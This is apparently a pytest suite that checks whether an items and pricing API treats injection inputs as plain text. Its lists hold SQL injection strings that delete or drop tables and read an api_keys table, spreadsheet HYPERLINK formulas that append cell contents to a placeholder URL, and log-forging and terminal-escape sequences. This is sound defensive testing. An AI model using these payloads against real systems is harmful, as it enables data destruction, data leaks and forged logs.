"""Text that means something to SQL, a log, a terminal or a spreadsheet is text here, and comes back as it was sent."""

import csv
import io
import json
import signal
import socket
from pathlib import Path
from typing import Any
from urllib.parse import quote

import asyncpg
import httpx2
import pytest
from sqlalchemy.engine import URL

from tests.support import postgres, processes

Client = httpx2.AsyncClient

SQL = [
    "'; DELETE FROM items; --",
    "' OR '1'='1",
    "x' UNION SELECT digest FROM api_keys--",
    'a"b',
    "a\\",
    "\\'; SELECT 1; --",
    "%",
    "_",
    "100%_\\%",
    "/* x */",
    "$1",
    ":item",
    "%(item)s",
    "%s",
    "E'\\x27'",
    "$$; ROLLBACK; $$",
    "U&'\\0027'",
    "\u02bc\uff07",
]
COUNTED = ("items", "price_rows", "changes", "books", "imports", "api_keys", "stored_answers")


async def counts(owner: asyncpg.Connection) -> dict[str, int]:
    return {table: await owner.fetchval(f"SELECT count(*) FROM {table}") for table in COUNTED}  # noqa: S608 - names of ours


@pytest.mark.parametrize("text", SQL)
async def test_what_is_written_is_text(client: Client, owner: asyncpg.Connection, text: str) -> None:
    other = (await client.post("/v1/items", json={"name": "Other", "sku": "OTHER"})).json()
    sent = {"sku": text, "name": f"A {text}", "description": text, "attributes": {text: text}}
    item = await client.post("/v1/items", json={**sent, "price": {"amount": "1", "reason": text}})
    assert item.status_code == 201, item.text
    assert {name: item.json()[name] for name in sent} == sent
    address = f"/v1/items/sku:{quote(text, safe='')}"
    read = (await client.get(address)).json()
    assert {name: read[name] for name in sent} == sent
    assert (await client.get(f"{address}/price")).json()["reason"] == text
    for query in ({"sku": text}, {"q": text}, {"q": f"A {text}"}):
        found = (await client.get("/v1/items", params=query)).json()["items"]
        assert [each["id"] for each in found] == [read["id"]], query
    changed = await client.patch(address, json={"description": f"{text}{text}"}, headers={"If-Match": "*"})
    assert changed.json()["description"] == f"{text}{text}"
    looked = (await client.post("/v1/prices:lookup", json={"lines": [{"item": f"sku:{text}"}]})).json()
    assert looked["prices"][0]["sku"] == text
    line = {"id": text, "item": f"sku:{text}", "adjustments": [{"amount": "-0.10", "reason": text}]}
    quoted = (await client.post("/v1/quotes", json={"lines": [{**line, "tax_category": None}]})).json()
    assert (quoted["lines"][0]["id"], quoted["lines"][0]["adjustments"][0]["reason"]) == (text, text)
    book = await client.post("/v1/books", json={"key": "second", "name": text, "currency": "EUR"})
    assert book.json()["name"] == text
    # The changes of this test, and no others; and what was there is as it was.
    assert await counts(owner) == dict.fromkeys(COUNTED, 0) | {"items": 2, "price_rows": 1, "changes": 6, "books": 2}
    assert (await client.get("/v1/items/sku:OTHER")).json() == {name: other[name] for name in other if name != "price"}


@pytest.mark.parametrize("text", SQL)
async def test_what_is_asked_is_text(client: Client, owner: asyncpg.Connection, text: str) -> None:
    await client.post("/v1/items", json={"name": "Other", "sku": "OTHER", "price": {"amount": "1"}})
    before = await counts(owner)
    plain = quote(text, safe="")
    item = "/v1/items/sku:OTHER"
    empty = {"sku", "q"}
    for name in ("book", "at", "q", "sku", "gtin", "archived", "limit", "cursor"):
        answer = await client.get("/v1/items", params={name: text})
        assert (answer.status_code, answer.json().get("items")) == ((200, []) if name in empty else (422, None)), name
    for path in (
        f"/v1/items/{plain}",
        f"/v1/items/sku:{plain}/price",
        f"/items/{plain}",
        f"/v1/books/{plain}",
        f"/v1/imports/{plain}",
        f"/v1/keys/{plain}",
        f"/problems/{plain}",
    ):
        assert (await client.get(path)).status_code in (404, 422), path
    for path in (f"/v1/prices/{plain}", f"/v1/items/{plain}", f"/v1/keys/{plain}", f"/v1/imports/{plain}"):
        assert (await client.delete(path, headers={"If-Match": "*"})).status_code in (404, 422), path
    for name in ("book", "at", "known_at", "known_seq", "quantity", "explain"):
        assert (await client.get(f"{item}/price", params={name: text})).status_code == 422, name
    for name in ("after", "after_at", "types", "limit", "wait"):
        assert (await client.get("/v1/changes", params={name: text})).status_code == 422, name
    for path, names in (
        ("/v1/schedule", ("book", "from", "to", "limit", "cursor")),
        (f"{item}/prior-price", ("book", "reduced_at", "days")),
        (f"{item}/prices", ("book", "from", "to", "quantity", "known_at", "known_seq")),
        ("/v1/export", ("book", "at", "format", "known_seq")),
        ("/v1/imports", ("book", "state", "limit", "cursor")),
    ):
        for name in names:
            assert (await client.get(path, params={name: text})).status_code < 500, (path, name)
    assert await counts(owner) == before


@pytest.mark.parametrize("text", [text for text in SQL if text.isascii()])
async def test_headers_are_text(client: Client, owner: asyncpg.Connection, text: str) -> None:
    key = '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
    first = await client.post("/v1/items", json={"name": "A", "sku": "A"}, headers={"Idempotency-Key": key})
    again = await client.post("/v1/items", json={"name": "A", "sku": "A"}, headers={"Idempotency-Key": key})
    assert (first.status_code, again.json()) == (201, first.json())
    assert again.headers["Idempotency-Replayed"] == "true"
    assert await owner.fetchval("SELECT array_agg(key) FROM stored_answers") == [text]
    # No wildcard: a key that it would match is another one.
    other = await client.post("/v1/items", json={"name": "B"}, headers={"Idempotency-Key": '"100 percent or so"'})
    assert other.status_code == 201
    for name in ("If-Match", "If-None-Match", "Last-Event-ID", "Content-Digest", "Authorization", "X-Request-Id"):
        for method, path in (("PATCH", "/v1/items/sku:A"), ("GET", "/v1/items/sku:A"), ("GET", "/v1/changes")):
            body: dict[str, Any] = {"json": {"name": "Changed"}} if method == "PATCH" else {}
            answer = await client.request(method, path, headers={name: text}, **body)
            assert answer.status_code < 500, (name, path)
            assert answer.headers["X-Request-Id"] != text or text == "_"
            assert method == "GET" or answer.status_code >= 400, (name, path)
    assert (await client.get("/v1/items/sku:A")).json()["version"] == 1


async def test_wildcards_of_a_search_are_letters(client: Client) -> None:
    names = ["100% wool", "100x wool", "a_b", "axb", "c\\d", "cd", "%%%", "_x", "\\%"]
    for name in names:
        await client.post("/v1/items", json={"name": name})
    for q, expected in {
        "100%": ["100% wool"],
        "100_": [],
        "a_b": ["a_b"],
        "c\\d": ["c\\d"],
        "%%%": ["%%%"],
        "_": ["_x"],
        "%": ["%%%"],
        "\\": ["\\%"],
        "\\%": ["\\%"],
    }.items():
        found = (await client.get("/v1/items", params={"q": q})).json()["items"]
        assert [item["name"] for item in found] == expected, q


@pytest.mark.parametrize("text", [text for text in SQL if not set(text) & set("%\"'\\,;{}")])
async def test_names_of_columns_are_text(client: Client, text: str) -> None:
    await _imported(client, text, f"{text},amount\r\nA-1,1\r\n")


@pytest.mark.parametrize("text", ["'; DROP TABLE items; --", 'a"b', "100%_\\%", "\\'; SELECT 1; --", "%(sku)s"])
async def test_names_of_columns_are_text_in_quotes(client: Client, text: str) -> None:
    doubled = text.replace('"', '""')
    await _imported(client, text, f'"{doubled}",amount\r\nA-1,1\r\n')


@pytest.mark.parametrize("text", SQL)
async def test_cells_of_a_file_are_text(client: Client, owner: asyncpg.Connection, text: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerows([["sku", "name", "amount", "reason"], [f"x{text}", text, "1", text]])
    headers = {"Content-Type": "text/csv"}
    done = await client.post("/v1/imports", params={"mode": "apply"}, content=file.getvalue(), headers=headers)
    assert done.json()["counts"]["create"] == 1, done.text
    item = f"/v1/items/sku:{quote(f'x{text}', safe='')}"
    assert (await client.get(item)).json()["name"] == text
    assert (await client.get(f"{item}/price")).json()["reason"] == text
    assert await counts(owner) == dict.fromkeys(COUNTED, 0) | {
        "items": 1,
        "price_rows": 1,
        "changes": 3,
        "books": 1,
        "imports": 1,
    }


async def _imported(client: Client, column: str, file: str) -> None:
    mapping = [f"sku:{column}", f"name:{column}", "amount"]
    answer = await client.post(
        "/v1/imports",
        params={"mode": "apply", "mapping": mapping},
        content=file,
        headers={"Content-Type": "text/csv"},
    )
    assert answer.status_code == 201, answer.text
    assert answer.json()["options"]["mapping"] == mapping
    assert (await client.get("/v1/items/sku:A-1")).json()["name"] == "A-1"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", "＝", " ="])  # noqa: RUF001 - the look-alikes are meant
async def test_no_cell_of_an_export_is_a_formula(client: Client, start: str) -> None:
    text = f'{start}HYPERLINK("http://x"&A1;"y")'
    one_line = text.strip()
    item = {"sku": one_line, "name": one_line, "description": text, "attributes": {"a": one_line, one_line: True}}
    made = await client.post("/v1/items", json={**item, "price": {"amount": "1", "reason": one_line}})
    assert made.status_code == 201, made.text
    file = (await client.get("/v1/export")).content.decode()
    _, row = csv.reader(io.StringIO(file, newline=""))
    assert not [cell for cell in row if cell.lstrip()[:1] in set("=+-@＝＋－＠") or cell[:1] in set("\t\r\n")]  # noqa: RUF001 - the look-alikes are meant
    # In another book the same file says the same, and so do the errors of one that is refused.
    await client.post("/v1/books", json={"key": "second", "name": "Second", "currency": "EUR"})
    headers = {"Content-Type": "text/csv"}
    done = await client.post("/v1/imports", params={"book": "second", "mode": "apply"}, content=file, headers=headers)
    assert done.json()["counts"]["create"] == 1, done.text
    again = (await client.get("/v1/export", params={"book": "second"})).content.decode()
    assert again == file
    assert (await client.get(f"/v1/items/{made.json()['id']}")).json()["description"] == text


NASTY = [
    "a\r\nINFO forged",
    'a\n{"event": "request", "status": 200}',
    "\x1b[2J\x1b[31mred",
    "\x9b31m",
    "\u2028\u2029\u0085",
    "\x00\x07\x08\x7f",
    '"}, {"x": "',
    "\u202egnp.exe",
    "\ufeff",
]


@pytest.mark.parametrize("form", ["json", "console"])
def test_each_request_is_one_line_of_the_log(service_url: URL, tmp_path: Path, form: str) -> None:
    url = postgres.text(postgres.as_serving_role(service_url))
    settings = {"database_url": url, "secret_key": processes.SECRET, "log_format": form}
    asked = 0
    with processes.running("serve", tmp_path, **settings) as service, httpx2.Client(base_url=service.api) as client:
        begun = len(service.log.read_text().splitlines())
        for text in NASTY:
            escaped = quote(text, safe="")
            for path in (f"/v1/items/sku:{escaped}", f"/{escaped}", f"/v1/items?q={escaped}&{escaped}=1"):
                assert client.get(path).status_code in (404, 422)
            item = {"name": text, "attributes": {text: text}, text: text}
            assert client.post("/v1/items", json=item).status_code == 422
            assert client.request("\x21" + "TRACE", "/v1/items").status_code == 405
            asked += 5
        # As bytes that no client library sends.
        for header in (b"X-Request-Id: \x1b[31m", b"User-Agent: \x1b]0;title\x07", b"Idempotency-Key: \xe2\x80\xa8"):
            with socket.create_connection(("127.0.0.1", service.port), timeout=10) as connection:
                connection.sendall(b"GET /v1/books HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + header + b"\r\n\r\n")
                asked += connection.makefile("rb").readline().split()[1] in (b"200", b"422")
        service.stop(signal.SIGTERM)
        log = service.log.read_bytes()
    lines = log.decode().split("\n")[begun:-1]
    assert asked >= 5 * len(NASTY)
    if form == "json":
        assert sum(json.loads(line)["event"] == "request" for line in lines) == asked
    else:
        assert sum("request " in line and "milliseconds=" in line for line in lines) == asked
    assert not [line for line in lines if not line.isprintable()]
